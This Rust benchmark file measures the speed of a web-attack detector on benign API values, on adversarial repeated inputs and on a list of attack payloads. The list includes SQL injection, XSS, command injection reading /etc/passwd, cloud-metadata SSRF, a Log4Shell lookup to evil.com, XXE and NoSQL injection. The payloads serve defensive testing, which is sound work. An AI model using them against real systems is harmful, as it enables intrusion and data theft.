//! Throughput of `Detector::scan` on benign API values, on attacks, and on adversarial
//! inputs that would make a backtracking engine blow up (all must stay linear).

use detect::{decode, Context, Detector, Level, Place};
use divan::counter::BytesCount;
use divan::{black_box, Bencher};

fn main() {
    divan::main();
}

const CORPUS: &str = include_str!("../corpus/benign-api.txt");

fn benign_values() -> Vec<&'static str> {
    CORPUS.lines().filter(|l| !l.is_empty() && !l.starts_with('#')).collect()
}

/// Structured JSON values: ids, emails, timestamps, numbers-as-strings, enums, names.
fn structured_values() -> Vec<String> {
    let mut v: Vec<String> = Vec::new();
    for i in 0..400u32 {
        v.push(format!("{:08x}-{:04x}-4abc-9def-{:012x}", i.wrapping_mul(2_654_435_761), i, u64::from(i) * 7919));
        v.push(format!("user{i}@example.com"));
        v.push(format!("2024-{:02}-{:02}T10:{:02}:00Z", i % 12 + 1, i % 28 + 1, i % 60));
        v.push(format!("{}", i * 37));
        v.push(["active", "pending", "Alice Smith", "en-US", "true", "EUR"][i as usize % 6].to_string());
    }
    v
}

/// A realistic JSON value mix: structured values plus the prose/URL/markdown lines of
/// benign-api.txt (about a fifth of the values, half of the bytes).
fn benign_mix() -> Vec<String> {
    let mut v = structured_values();
    v.extend(benign_values().into_iter().map(str::to_string));
    v
}

fn bench_values(b: Bencher, vals: &[String]) {
    let det = Detector::new(Level::L1);
    let bytes: usize = vals.iter().map(String::len).sum();
    b.counter(BytesCount::new(bytes)).bench_local(|| {
        let mut n = 0;
        for v in vals {
            n += usize::from(det.scan(black_box(v.as_bytes()), Context::new(Place::JsonString)).is_some());
        }
        n
    });
}

#[divan::bench]
fn benign_structured_values(b: Bencher) {
    bench_values(b, &structured_values());
}

#[divan::bench]
fn benign_free_text(b: Bencher) {
    let vals: Vec<String> = benign_values().into_iter().map(str::to_string).collect();
    bench_values(b, &vals);
}

const ATTACKS: &[&str] = &[
    "1' or '1'='1",
    "-1 union select 1,version(),3--",
    "<img src=x onerror=alert(1)>",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://evil.com/a}",
    "{{7*7}}",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    "*)(uid=*))(|(uid=*",
    "%0d%0aSet-Cookie: x=y",
    "{\"$where\": \"sleep(1000)\"}",
];

#[divan::bench]
fn benign_json_values(b: Bencher) {
    bench_values(b, &benign_mix());
}

#[divan::bench]
fn attack_payloads(b: Bencher) {
    let det = Detector::new(Level::L1);
    let bytes: usize = ATTACKS.iter().map(|a| a.len()).sum();
    b.counter(BytesCount::new(bytes)).bench_local(|| {
        let mut n = 0;
        for a in ATTACKS {
            n += usize::from(det.scan(black_box(a.as_bytes()), Context::new(Place::Query)).is_some());
        }
        n
    });
}

/// Builds `unit` repeated to `size` bytes.
fn repeat_to(unit: &str, size: usize) -> Vec<u8> {
    unit.as_bytes().iter().copied().cycle().take(size).collect()
}

fn adversarial_input(name: &str, size: usize) -> Vec<u8> {
    let unit = match name {
        "quotes" => "'",
        "parens" => "(",
        "pct25" => "%25",
        "entities" => "&amp;",
        "lt" => "<",
        "sql_ops" => "'or(",
        "lookups" => "${",
        "semicolons" => ";id",
        "handlers" => "<a onx=",
        _ => "a",
    };
    repeat_to(unit, size)
}

/// Each pattern at 16 KB and 64 KB: time per byte must stay flat (linear time).
#[divan::bench(
    args = ["quotes", "parens", "pct25", "entities", "lt", "sql_ops", "lookups", "semicolons", "handlers"],
    consts = [16384, 65536]
)]
fn adversarial<const N: usize>(b: Bencher, name: &str) {
    let det = Detector::new(Level::L3);
    let input = adversarial_input(name, N);
    b.counter(BytesCount::new(input.len())).bench_local(|| det.scan(black_box(&input), Context::new(Place::Body)));
}

#[divan::bench]
fn decode_layers(b: Bencher) {
    let input = "%2527%253Cscript%253E&lt;img&gt;\\u003c".repeat(512).into_bytes();
    b.counter(BytesCount::new(input.len())).bench_local(|| decode(black_box(&input)));
}
